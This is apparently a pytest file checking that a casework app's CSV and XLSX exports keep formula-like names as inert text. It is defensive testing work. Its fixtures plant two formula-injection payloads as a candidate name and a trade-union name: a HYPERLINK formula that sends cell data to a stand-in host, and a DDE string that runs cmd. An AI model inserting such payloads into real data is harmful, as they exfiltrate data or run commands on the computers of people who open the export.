"""A name that looks like a spreadsheet formula comes out of every export as text, never as a live formula."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from casework.extensions import db
from casework.spreadsheets import csv_cell, is_formula_like

FORMULA = '=HYPERLINK("http://x/?"&A1,"click")'


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝1", "＋1", "－1", "＠x"])
def test_text_a_spreadsheet_reads_as_a_formula_gets_an_apostrophe(value):
    assert is_formula_like(value)
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-3, -2.5, 0, 7, "Công đoàn Hòa Phát", "2026-11-16", "a=b", "", None])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert not is_formula_like(value)
    assert csv_cell(value) == ("" if value is None else value)


@pytest.fixture
def formula_named(walker, web_org):
    """A candidate and the trade union that referred them, both named like a formula, their case stuck."""
    web_org.trade_union.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    db.session.commit()
    walk = walker(full_name=FORMULA)
    walk.to("verification")
    return walk.case


def _csv(client, url) -> list[list[str]]:
    response = client.get(url)
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_csv_exports_keep_formula_names_as_text(page, formula_named):
    client = page("organizer")
    stuck = _csv(client, "/monitoring/export/stuck_cases.csv?year=2026")
    assert stuck[1][stuck[0].index("candidate")] == "'" + FORMULA
    assert stuck[1][stuck[0].index("days")].lstrip("-").isdigit()  # numbers stay numbers
    unions = _csv(client, "/monitoring/export/unions.csv?year=2026")
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in [row[0] for row in unions]
    events = _csv(client, "/monitoring/events.csv")
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in [row[events[0].index("actor_unit")] for row in events]


def test_xlsx_exports_write_formula_names_as_text_cells(page, formula_named):
    client = page("organizer")
    sheet = load_workbook(io.BytesIO(client.get("/monitoring/export/stuck_cases.xlsx?year=2026").data)).active
    header = [c.value for c in sheet[1]]
    name = sheet.cell(row=2, column=header.index("candidate") + 1)
    assert (name.value, name.data_type) == (FORMULA, "s")  # the text itself, not a formula ("f")
    assert name.quotePrefix
    days = sheet.cell(row=2, column=header.index("days") + 1)
    assert isinstance(days.value, int) and days.data_type == "n"
    unions = load_workbook(io.BytesIO(client.get("/monitoring/export/unions.xlsx?year=2026").data)).active
    cells = [row[0] for row in unions.iter_rows(min_row=2)]
    assert any(c.value == "@SUM(1+1)*cmd|' /C calc'!A0" and c.data_type == "s" for c in cells)
